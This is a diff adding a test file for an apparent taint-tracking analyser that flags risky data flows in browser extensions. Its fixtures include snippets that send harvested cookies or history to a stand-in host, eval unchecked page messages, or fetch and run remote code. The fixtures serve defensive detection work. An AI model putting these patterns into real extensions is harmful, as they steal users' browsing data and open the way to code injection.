@@ -1,0 +1,135 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Example } from '../rule.ts';
+import { factsOf } from '../testing/examples.ts';
+import { type Flows, flowsOf } from './flowsOf.ts';
+import { sample } from './sample.ts';
+
+const flows = async (example: Example): Promise<Flows> => (await factsOf(example)).whole(flowsOf);
+const pairs = async (example: Example): Promise<string[]> => (await flows(example)).flows.map(({ source, sink, checked }) => `${source.kind} > ${sink.kind}${checked ? ' checked' : ''}`).filter((pair) => !pair.includes('network') || !pair.startsWith('remote'));
+
+describe('functions', () => {
+  it('keeps callers of one function apart', async () => {
+    const found = await flows(sample({ background: 'const same = (x) => x; chrome.cookies.getAll({}, (c) => { const kept = same(c); list.push(kept.length); }); fetch("https://a.example", { method: "POST", body: same("nothing") }); const list = [];' }));
+    expect(found.flows).toEqual([]);
+  });
+
+  it('follows closures, methods, fields and inheritance', async () => {
+    expect(await pairs(sample({ background: 'class Base { send() { fetch("https://a.example", { body: this.data }); } } class Child extends Base { take(d) { this.data = d; } } const c = new Child(); chrome.history.search({}, (h) => { c.take(h); c.send(); });' }))).toContain('history > network');
+    expect(await pairs(sample({ background: 'class Box { take(d) { this.data = d; this.send(); } send() { fetch("https://a.example", { body: JSON.stringify(this.data) }); } } const c = new Box(); chrome.history.search({}, (h) => { c.take(h); });' }))).toContain('history > network');
+    expect(await pairs(sample({ background: 'function Box() {} Box.prototype.take = function (d) { this.data = d; }; Box.prototype.send = function () { fetch("https://a.example", { body: this.data }); }; var b = new Box(); chrome.history.search({}, function (h) { b.take(h[0].url); b.send(); });' }))).toContain('history > network');
+    expect(await pairs(sample({ background: 'function maker(send) { return function (h) { send(h); }; } chrome.history.search({}, maker((x) => navigator.sendBeacon("https://a.example", x)));' }))).toContain('history > network');
+  });
+
+  it('keeps properties of an object apart', async () => {
+    expect(await pairs(sample({ background: 'chrome.history.search({}, (h) => { const o = { a: h, b: "x" }; fetch("https://a.example", { body: o.b }); });' }))).toEqual([]);
+    expect(await pairs(sample({ background: 'chrome.history.search({}, (h) => { const o = {}; o.list = h; const { list: [first, ...rest] } = o; fetch("https://a.example", { body: first.url }); });' }))).toContain('history > network');
+  });
+
+  it('lets a new value end the old one', async () => {
+    expect(await pairs(sample({ content: 'window.addEventListener("message", (e) => { let x = e.data; x = "fixed"; eval(x); });' }))).toEqual([]);
+  });
+});
+
+describe('between scripts', () => {
+  it('follows imports, globals and re-exports', async () => {
+    const found = await pairs(sample({
+      background: 'import { take } from "./lib/index.js"; chrome.history.search({}, take);',
+      files: { 'lib/index.js': 'export * from "./send.js";', 'lib/send.js': 'const URL_ = "https://a.example"; export function take(items) { fetch(URL_, { method: "POST", body: JSON.stringify(items) }); }' },
+    }));
+    expect(found).toContain('history > network');
+  });
+
+  it('follows variables shared by classic scripts', async () => {
+    const found = await pairs(sample({
+      manifest: { manifest_version: 2, background: { scripts: ['a.js', 'b.js'] } },
+      files: { 'a.js': 'var Api = { send: function (x) { $.post("https://a.example", x); } };', 'b.js': 'chrome.cookies.getAll({}, function (c) { Api.send(c); });' },
+    }));
+    expect(found).toContain('cookies > network');
+  });
+
+  it('follows answers back to the sender', async () => {
+    const found = await pairs(sample({
+      background: 'browser.runtime.onMessage.addListener(async (m) => { if (m.type === "cookies") return { list: await browser.cookies.getAll({}) }; });',
+      content: 'browser.runtime.sendMessage({ type: "cookies" }).then(({ list }) => window.postMessage(list, "*"));',
+    }));
+    expect(found).toContain('cookies > page-message');
+  });
+
+  it('tells messages by their type, constants of other files included', async () => {
+    const types = 'export const SAVE = "save"; export const RUN = "run";';
+    const background = 'import { RUN, SAVE } from "./types.js"; chrome.runtime.onMessage.addListener((m) => { switch (m.type) { case RUN: chrome.tabs.executeScript({ code: m.body }); break; case SAVE: chrome.storage.local.set({ body: m.body }); } });';
+    const content = (name: string): string => `window.addEventListener("message", (e) => chrome.runtime.sendMessage({ type: "${name}", body: e.data }));`;
+    expect(await pairs(sample({ background, content: content('run'), files: { 'types.js': types } }))).toContain('page-message > injected-code');
+    expect(await pairs(sample({ background, content: content('save'), files: { 'types.js': types } }))).not.toContain('page-message > injected-code');
+  });
+
+  it('follows values through storage by key', async () => {
+    const read = (key: string): string => `chrome.storage.local.get("${key}", (o) => { setTimeout(o.${key}, 1); });`;
+    const write = 'fetch("https://a.example/x").then((r) => r.text()).then((t) => chrome.storage.local.set({ script: t }));';
+    expect(await pairs(sample({ background: write + read('script') }))).toContain('remote-data > code');
+    expect(await pairs(sample({ background: write + read('other') }))).not.toContain('remote-data > code');
+  });
+
+  it('hands arguments to injected functions', async () => {
+    expect(await pairs(sample({ background: 'chrome.runtime.onMessageExternal.addListener((m) => { chrome.scripting.executeScript({ target: { tabId: 1 }, func: (a, b) => { eval(b); }, args: ["x", m.code] }); });' }))).toContain('external-message > code');
+    expect(await pairs(sample({ background: 'chrome.runtime.onMessageExternal.addListener((m) => { chrome.scripting.executeScript({ target: { tabId: 1 }, func: (a, b) => { eval(b); }, args: [m.code, "x"] }); });' }))).not.toContain('external-message > code');
+  });
+});
+
+describe('checks', () => {
+  it.each([
+    'if (e.origin !== "https://a.example") return; eval(e.data);',
+    'if (e.origin === "https://a.example") { eval(e.data); }',
+    'e.origin === "https://a.example" && eval(e.data);',
+    'const ok = e.origin === "https://a.example"; if (!ok) return; eval(e.data);',
+    'const { origin, data } = e; if (!ALLOWED.includes(origin)) throw new Error("no"); eval(data);',
+    'switch (e.origin) { case "https://a.example": eval(e.data); }',
+    'if (new URL(e.origin).hostname !== "a.example") return; eval(e.data);',
+    'if (!isTrusted(e.origin)) return; eval(e.data);',
+  ])('sees %s', async (body) => {
+    expect(await pairs(sample({ content: `window.addEventListener("message", (e) => { ${body} });` }))).toEqual(['page-message > code checked']);
+  });
+
+  it.each([
+    'if (e.source !== window) return; eval(e.data);',
+    'if (e.data.type === "run") eval(e.data.code);',
+    'if (e.origin === "https://a.example") log(); eval(e.data);',
+    'if (typeof e.data === "string") eval(e.data);',
+  ])('is not content with %s', async (body) => {
+    expect(await pairs(sample({ content: `window.addEventListener("message", (e) => { ${body} }); function log() {}` }))).toEqual(['page-message > code']);
+  });
+});
+
+describe('work', () => {
+  const chain = (length: number): Example => sample({ background: `chrome.cookies.getAll({}, f0); ${Array.from({ length }, (_, n) => `function f${n}(x) { const y = { v: x }; f${n + 1}(y.v); }`).join('\n')} function f${length}(x) { fetch("https://a.example", { body: x }); }` });
+
+  it('grows in proportion to the code', async () => {
+    const [small, large] = [await flows(chain(50)), await flows(chain(500))];
+    expect(small.flows.length).toBeGreaterThan(0);
+    expect(large.flows.length).toBeGreaterThan(0);
+    expect(large.steps).toBeLessThanOrEqual(small.steps * 11);
+  });
+
+  it('grows in proportion to the callers of one function', async () => {
+    const fan = (count: number): Example => sample({ background: `function send(x) { fetch("https://a.example", { body: x }); } ${Array.from({ length: count }, (_, n) => `chrome.cookies.getAll({ name: "${n}" }, (c) => send(c));`).join('\n')}` });
+    const [small, large] = [await flows(fan(20)), await flows(fan(400))];
+    expect(large.steps).toBeLessThanOrEqual(small.steps * 21);
+  });
+
+  it('ends on circles', async () => {
+    const found = await flows(sample({ background: 'let a = {}; let b = a; chrome.cookies.getAll({}, function again(c) { a.next = c; b = a.next; a = { next: b, more: a }; again(b); a[b] = a; }); fetch("https://x.example", { body: a.next });' }));
+    expect(found.whole).toBe(true);
+  });
+
+  it('never throws on broken or odd scripts', async () => {
+    const words = fc.constantFrom('chrome', '.', 'runtime', 'onMessage', 'addListener', '(', ')', '{', '}', '=>', 'm', ',', 'this', '=', 'x', ';', 'class', 'A', 'eval', 'function', 'return', '[', ']', '...', 'await', 'async', 'const', 'sendMessage', 'if', '===', '"a"', 'fetch', 'window', 'addEventListener', '"message"');
+    await fc.assert(
+      fc.asyncProperty(fc.array(words, { maxLength: 60 }), fc.array(words, { maxLength: 60 }), async (one, other) => {
+        const { steps } = await flows(sample({ background: `chrome.runtime.onMessageExternal.addListener((m) => { ${one.join(' ')} });`, content: other.join(' ') }));
+        expect(steps).toBeGreaterThanOrEqual(0);
+      }),
+      { numRuns: 100 },
+    );
+  }, 60_000);
+});
